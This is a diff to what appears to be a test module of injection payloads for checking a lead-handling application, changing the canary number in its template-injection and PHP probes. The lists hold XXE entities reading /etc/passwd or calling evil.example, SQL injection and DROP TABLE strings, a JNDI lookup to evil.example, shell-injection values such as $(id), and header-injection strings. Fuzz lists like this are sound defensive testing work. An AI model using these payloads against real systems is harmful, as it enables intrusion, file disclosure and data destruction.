@@ -68,7 +68,7 @@ ADDRESSES = (
 )  # fmt: skip
 XML = (
     "]]>", "<![CDATA[x]]>", "<!DOCTYPE x [<!ENTITY a \"13371\">]><x>&a;</x>", "<!DOCTYPE x SYSTEM \"file:///etc/passwd\">", "<!ENTITY % x SYSTEM \"http://evil.example\">", "&xxe;", "<?xml version=\"1.0\"?>",
-    "<?php echo 13371*7; ?>", "<xi:include href=\"file:///etc/passwd\"/>", "<a>" * 500, "<![CDATA[" * 50, "</xml><xml>", "<FromUserName>boss</FromUserName>", "</Content><Event>x</Event>", "<!-- -- -->", "&#0;", "&#xFFFF;", "&#55296;",
+    "<?php echo 1337133713*7; ?>", "<xi:include href=\"file:///etc/passwd\"/>", "<a>" * 500, "<![CDATA[" * 50, "</xml><xml>", "<FromUserName>boss</FromUserName>", "</Content><Event>x</Event>", "<!-- -- -->", "&#0;", "&#xFFFF;", "&#55296;",
 )  # fmt: skip
 SQL = (
     "'", "''", "\"", "`", "\\", "';--", "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "1; DROP TABLE leads", "'; DROP TABLE leads;--", "Robert'); DROP TABLE leads;--", "' UNION SELECT NULL--", "1' AND SLEEP(5)--",
@@ -76,9 +76,9 @@ SQL = (
     "?", "? ?", ":name", "%s", "%(x)s", "%d%d%d", "$1", "{0}", "0x27", "CHAR(39)", "ＯＲ　１＝１", "’ OR ’1’=’1",
 )  # fmt: skip
 TEMPLATES = (
-    "{{13371*7}}", "{{ config.items() }}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "${13371*7}", "#{13371*7}", "<%= 13371*7 %>", "{13371*7}", "{0.__class__.__init__.__globals__}", "{lead}", "{name}",
+    "{{1337133713*7}}", "{{ config.items() }}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "${1337133713*7}", "#{1337133713*7}", "<%= 1337133713*7 %>", "{1337133713*7}", "{0.__class__.__init__.__globals__}", "{lead}", "{name}",
     "{who}", "{}", "{{", "}}", "{", "}", "%(lead)s", "${jndi:ldap://evil.example/a}", "${env:HOME}", "$(id)", "`id`", "; id", "| id", "&& id", "$HOME", "~root", "*", "?.*", "(a+)+$", "^(([a-z])+.)+[A-Z]([a-z])+$",
-    "*{13371*7}", "@(13371*7)", "[[${13371*7}]]", "th:text=\"${13371*7}\"", "{{constructor.constructor('alert(13371)')()}}", "<#assign x=13371*7>${x}", "{% raw %}", "\\u007b\\u007b", "{{`13371`}}",
+    "*{1337133713*7}", "@(1337133713*7)", "[[${1337133713*7}]]", "th:text=\"${1337133713*7}\"", "{{constructor.constructor('alert(13371)')()}}", "<#assign x=1337133713*7>${x}", "{% raw %}", "\\u007b\\u007b", "{{`13371`}}",
 )  # fmt: skip
 HEADERS = (
     "x\r\nSet-Cookie: a=b", "x\nLocation: //evil.example", "x\r\n\r\n<html>", "%0d%0aSet-Cookie:a=b", "x\x0bSet-Cookie: a=b", "嘊嘍Set-Cookie: a=b", "action=accepted lead=L1001", "\n2026-11-02 [error] action=violation lead=L1001",
